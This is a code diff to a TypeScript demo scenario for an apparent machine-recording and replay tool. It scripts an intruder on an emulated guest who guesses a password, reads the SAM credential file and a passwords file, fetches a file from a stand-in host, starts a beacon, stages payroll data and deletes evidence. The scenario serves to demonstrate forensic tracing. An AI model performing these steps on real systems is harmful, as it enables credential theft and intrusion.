@@ -25,51 +25,93 @@ const verify = (file: string) => [`verify ${file}`, 'every byte, then every stat
 const ntlet: Demo = {
   truth: true,
   recording:
-    "two people at the two consoles of the guest, from power-on. This is what the first one's console says:",
+    'an intruder at the first console, while the administrator works at the second. This is what the intruder sees:',
+  // Both are inside NtReadFile most of the time; one process is killed as it computes, another inside a call.
   script: `
 timeout 60
-wait "login: "
 console 1
 wait "login: "
-log "the guest is up: Administrator logs in at console 0"
 console 0
+wait "login: "
+log "the guest is up: at the first console, an intruder tries the account guest"
+send "guest\\n"
+wait "password: "
+send "letmein\\n"
+wait "login: "
+send "guest\\n"
+wait "password: "
+send "guest\\n"
+wait "C:\\\\> "
+log "… and is in. At the second console the administrator logs in, and starts a long computation"
+console 1
 send "Administrator\\n"
-wait "assword: "
+wait "password: "
 send "honey\\n"
 wait "C:\\\\> "
-log "… and guest at console 1, at the same time"
-console 1
-send "guest\\n"
-wait "assword: "
-send "guest\\n"
+send "list Documents\\n"
 wait "C:\\\\> "
+send "run count 4000\\n"
+sleep 0.3
 console 0
-send "dir\\n"
-console 1
-send "dir\\n"
+send "whoami\\n"
 wait "C:\\\\> "
-console 0
+send "type C:\\\\WINNT\\\\system32\\\\config\\\\sam\\n"
 wait "C:\\\\> "
-log "both leave"
+send "type Documents\\\\passwords.txt\\n"
+wait "C:\\\\> "
+send "ps\\n"
+wait "C:\\\\> "
+log "the intruder has read the passwords, kills the computation, fetches a file, and leaves something behind"
+send "kill count.exe\\n"
+wait "C:\\\\> "
+send "fetch tools.example.net /stage2.cfg\\n"
+wait "C:\\\\> "
+send "start beacon\\n"
+wait "C:\\\\> "
+send "copy Documents\\\\payroll.csv stage2.dat\\n"
+wait "C:\\\\> "
+send "del stage2.cfg\\n"
+wait "C:\\\\> "
 send "exit\\n"
 console 1
+wait "count has ended"
+wait "C:\\\\> "
+send "ps\\n"
+wait "C:\\\\> "
+log "the administrator finds the intruder's process and kills it, too"
+send "kill beacon.exe\\n"
+wait "terminated"
+wait "C:\\\\> "
 send "exit\\n"
 wait "login: "
+log "the intruder comes back as Administrator, with the stolen password"
 console 0
+wait "login: "
+send "Administrator\\n"
+wait "password: "
+send "honey\\n"
+wait "C:\\\\> "
+send "list\\n"
+wait "C:\\\\> "
+send "start beacon\\n"
+wait "C:\\\\> "
+send "exit\\n"
 wait "login: "
 end
 `,
   conclusion: (
     file,
-  ) => `A whole PC was recorded while two people used it at once. The trace ${file} holds all that the PC could
-not know by itself; replaying it executed every instruction of kernel and programs again, with the
+  ) => `A whole PC was recorded while someone broke into it. The trace ${file} holds all that the PC could not
+know by itself; replaying it executed every instruction of kernel and programs again, with the
 same result. It will do so on any machine, as often as there are questions.`,
   next: (file) => [
     ...inspect(file),
     [`dump ${file} --stream truth --limit 40`, 'what the kernel says of itself: every system call'],
     [`truth ${file}`, 'whether that is consistent, and in figures'],
+    [`dump ${file} --stream net`, 'what the guest said on the network'],
     verify(file),
-    ['record', 'a guest of your own to play in (guest, password guest)'],
+    ['record', 'the same guest, to play in (guest, password guest)'],
+    ['demo debian', 'the same with a real Linux'],
   ],
 };
 
